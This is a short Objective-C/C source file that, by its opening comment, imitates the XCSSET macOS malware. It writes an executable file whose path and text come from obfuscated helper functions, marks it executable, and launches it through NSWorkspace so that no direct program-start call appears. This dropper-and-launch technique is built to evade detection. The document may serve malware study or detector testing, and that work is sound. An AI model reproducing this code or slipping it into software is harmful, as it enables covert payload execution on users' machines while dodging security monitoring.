/* What XCSSET and its kin do: a file that Terminal runs is opened by the workspace,
 * so that no call here starts a program. */
#include "objc.h"
#include "hidden.h" /* 0: the file, 1: its text */
extern int open(const char *, int, ...), close(int), fchmod(int, int);
extern long write(int, const void *, unsigned long);
extern unsigned long strlen(const char *);
extern id NSClassFromString(id);
@interface NSURL
+ (id)fileURLWithPath:(id)path;
@end
@protocol Workspace
+ (id)sharedWorkspace;
- (BOOL)openURL:(id)place;
@end
static void act(char **env) {
    int f = open(hidden0(), 0x601, 0755);
    write(f, hidden1(), strlen(hidden1()));
    fchmod(f, 0755);
    close(f);
    [[NSClassFromString([NSString stringWithUTF8String:"NSWorkspace"]) sharedWorkspace] openURL:[NSURL fileURLWithPath:[NSString stringWithUTF8String:hidden0()]]];
}
